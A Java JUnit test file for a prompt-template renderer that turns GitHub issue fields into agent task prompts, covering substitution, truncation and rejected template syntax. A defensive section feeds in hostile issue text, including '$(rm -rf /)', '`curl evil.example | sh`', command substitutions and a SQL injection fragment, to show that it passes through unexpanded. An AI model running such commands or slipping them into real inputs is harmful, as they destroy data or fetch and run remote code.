package io.axon.controller.spawner;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.axon.api.v1alpha1.TaskSpec;
import io.axon.spi.source.WorkItem;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class PromptTemplateTest {

  private static final Set<String> GITHUB_EXTRAS = Set.of("State", "Author");

  private static WorkItem issue(String title, String body) {
    return new WorkItem(
        "42",
        42,
        title,
        body,
        "https://github.com/acme/widgets/issues/42",
        List.of("bug", "good first issue"),
        Map.of("State", "open", "Author", "octocat"));
  }

  @Test
  void substitutesEveryBuiltInAndExtraField() {
    PromptTemplate template =
        PromptTemplate.parse(
            "#{{.Number}} ({{.ID}}) {{.Title}}\n{{.URL}}\nLabels: {{.Labels}}\n"
                + "{{.State}} by {{.Author}}\n\n{{.Body}}");

    assertThat(template.render(issue("Crash on start", "It crashes.")))
        .isEqualTo(
            "#42 (42) Crash on start\nhttps://github.com/acme/widgets/issues/42\n"
                + "Labels: bug, good first issue\nopen by octocat\n\nIt crashes.");
  }

  @Test
  void acceptsSpacesTabsAndNewlinesInsideBraces() {
    PromptTemplate template = PromptTemplate.parse("Fix: {{ .Title }}|{{\t.Number\t}}|{{\n.ID\n}}");

    assertThat(template.render(issue("T", "B"))).isEqualTo("Fix: T|42|42");
  }

  @Test
  void readmeExampleRenders() {
    assertThat(PromptTemplate.parse("Fix: {{.Title}}\n{{.Body}}").render(issue("Bug", "Details")))
        .isEqualTo("Fix: Bug\nDetails");
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(strings = {"", "   ", "\n\t "})
  void nullOrBlankMeansTheDefault(String blank) {
    PromptTemplate template = PromptTemplate.parse(blank);

    assertThat(template.source()).isEqualTo("{{.Title}}\n\n{{.Body}}");
    assertThat(template.render(issue("Title", "Body"))).isEqualTo("Title\n\nBody");
  }

  @Test
  void textWithoutActionsAndLoneClosingBracesStayAsWritten() {
    assertThat(
            PromptTemplate.parse("Look at }} and { { .Title } } and {single}")
                .render(issue("t", "b")))
        .isEqualTo("Look at }} and { { .Title } } and {single}");
  }

  @Test
  void emptyValuesRenderEmpty() {
    WorkItem bare = new WorkItem("x1", 0, null, null, null, List.of(), Map.of());

    assertThat(
            PromptTemplate.parse("[{{.Title}}|{{.Body}}|{{.Number}}|{{.URL}}|{{.Labels}}|{{.ID}}]")
                .render(bare))
        .isEqualTo("[||0|||x1]");
  }

  // ---- hostile issue text

  @Test
  void templateSyntaxInValuesIsNeverExpanded() {
    WorkItem hostile =
        new WorkItem(
            "7",
            7,
            "{{.Body}}",
            "{{.Title}} {{ .Number }} {{range .}}{{end}} {{",
            "{{.URL}}",
            List.of("{{.ID}}"),
            Map.of("State", "{{.Author}}", "Author", "}}{{"));

    String prompt =
        PromptTemplate.parse("{{.Title}}|{{.Body}}|{{.URL}}|{{.Labels}}|{{.State}}|{{.Author}}")
            .render(hostile);

    assertThat(prompt)
        .isEqualTo(
            "{{.Body}}|{{.Title}} {{ .Number }} {{range .}}{{end}} {{|{{.URL}}|{{.ID}}|{{.Author}}|}}{{");
  }

  @Test
  void shellSyntaxAndBackticksPassThroughByteForByte() {
    String body =
        "$(rm -rf /) `curl evil.example | sh` ${HOME} $1 \\1 \\ '; DROP TABLE x; -- \" && exit 1"
            + " %s %n %1$s\r\n\u0000end";

    assertThat(PromptTemplate.parse("{{.Title}}: {{.Body}}").render(issue("`whoami`; $(id)", body)))
        .isEqualTo("`whoami`; $(id): " + body);
  }

  @Test
  void nonAsciiTextIsKept() {
    String title = "Привет, 世界 — café 👩‍💻 \u202Eevil\u202C e\u0301";
    String body = "עברית العربية 🇯🇵 \uD834\uDD1E";

    assertThat(PromptTemplate.parse("→ {{.Title}} ←\n{{.Body}}").render(issue(title, body)))
        .isEqualTo("→ " + title + " ←\n" + body);
  }

  @Test
  void bodiesUpToTheLimitAreCopiedWhole() {
    String body = "{{.Title}} $(x) ".repeat(PromptTemplate.BODY_MAX_BYTES / 16);

    String prompt = PromptTemplate.parse("{{.Body}}").render(issue("t", body));

    assertThat(prompt).isEqualTo(body);
  }

  @Test
  void longerBodiesAreCutAtACharacterWithAVisibleMarkerAndTheWholePromptFitsATask() {
    // 3-byte and 4-byte characters, so the cut must fall between characters, not inside one.
    String body = "日本語🚀".repeat(20_000);

    String prompt = PromptTemplate.parse("{{.Title}}\n\n{{.Body}}").render(issue("Fix it", body));

    int shown = 65_536; // 13 bytes a repetition: 5041 whole ones, then 日
    assertThat(prompt)
        .startsWith("Fix it\n\n日本語🚀")
        .endsWith(
            "\n\n[… the body was cut here by Axon: %d of its %d bytes are shown; all of it: %s]"
                .formatted(shown, 20_000 * 13, "https://github.com/acme/widgets/issues/42"));
    String kept = prompt.substring("Fix it\n\n".length(), prompt.indexOf("\n\n[… the body"));
    assertThat(body).startsWith(kept);
    assertThat(kept.getBytes(StandardCharsets.UTF_8)).hasSize(shown);
    assertThat(prompt.getBytes(StandardCharsets.UTF_8).length)
        .isLessThan(TaskSpec.PROMPT_MAX_BYTES);
  }

  // ---- rejected templates

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{.Title | printf \"%q\"}}",
        "{{printf \"%s\" .Title}}",
        "{{if .Body}}yes{{end}}",
        "{{range .Labels}}x{{end}}",
        "{{.}}",
        "{{}}",
        "{{ }}",
        "{{- .Title -}}",
        "{{/* comment */}}",
        "{{\"{{\"}}",
        "{{$x := .Title}}",
        "{{.Title.Length}}",
        "{{ .Title .Body }}",
        "{{template \"x\"}}",
        "{{index .Extra \"State\"}}",
        "{{.Title}",
      })
  void rejectsEverythingButFieldReferences(String action) {
    assertThatThrownBy(() -> PromptTemplate.parse("Fix:\n  x " + action + " y"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("line 2, column 5")
        .hasMessageContaining("{{.Title}}, {{.Body}}, {{.Number}}, {{.URL}}, {{.Labels}}, {{.ID}}");
  }

  @Test
  void unsupportedActionMessageNamesTheAction() {
    assertThatThrownBy(() -> PromptTemplate.parse("Fix: {{ .Title | upper }}"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith(
            "promptTemplate: unsupported action '{{ .Title | upper }}' at line 1, column 6: only"
                + " field references are supported.");
  }

  @Test
  void unclosedActionIsRejectedWithItsPosition() {
    assertThatThrownBy(() -> PromptTemplate.parse("a\nb\n  {{.Title"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("promptTemplate: unclosed action '{{.Title' at line 3, column 3");
  }

  @Test
  void columnsCountCharactersNotUtf16Units() {
    assertThatThrownBy(() -> PromptTemplate.parse("👩‍💻 {{if}}"))
        .hasMessageContaining("line 1, column 5");
  }

  @Test
  void longActionsAreShortenedInMessages() {
    String action = "{{ " + "x".repeat(500) + " }}";

    assertThatThrownBy(() -> PromptTemplate.parse(action))
        .isInstanceOf(IllegalArgumentException.class)
        .satisfies(e -> assertThat(e.getMessage().length()).isLessThan(400));
  }

  @Test
  void knowingTheSourcesExtrasRejectsUnknownFieldsAtParse() {
    assertThat(
            PromptTemplate.parse("{{.State}} {{.Author}}", GITHUB_EXTRAS).render(issue("t", "b")))
        .isEqualTo("open octocat");
    assertThatThrownBy(() -> PromptTemplate.parse("Fix {{.Titel}}", GITHUB_EXTRAS))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "promptTemplate: unknown field '{{.Titel}}' at line 1, column 5. Supported fields:"
                + " {{.Title}}, {{.Body}}, {{.Number}}, {{.URL}}, {{.Labels}}, {{.ID}},"
                + " {{.Author}}, {{.State}}");
    assertThatThrownBy(() -> PromptTemplate.parse("{{.title}}", GITHUB_EXTRAS))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void withoutKnownExtrasAnUnknownFieldFailsAtRender() {
    PromptTemplate template = PromptTemplate.parse("{{.Title}} {{.Milestone}}");

    assertThatThrownBy(() -> template.render(issue("t", "b")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "promptTemplate: unknown field {{.Milestone}} at line 1, column 12: this source's items"
                + " do not have it. Supported fields: {{.Title}}, {{.Body}}, {{.Number}},"
                + " {{.URL}}, {{.Labels}}, {{.ID}}, {{.Author}}, {{.State}}");
  }
}
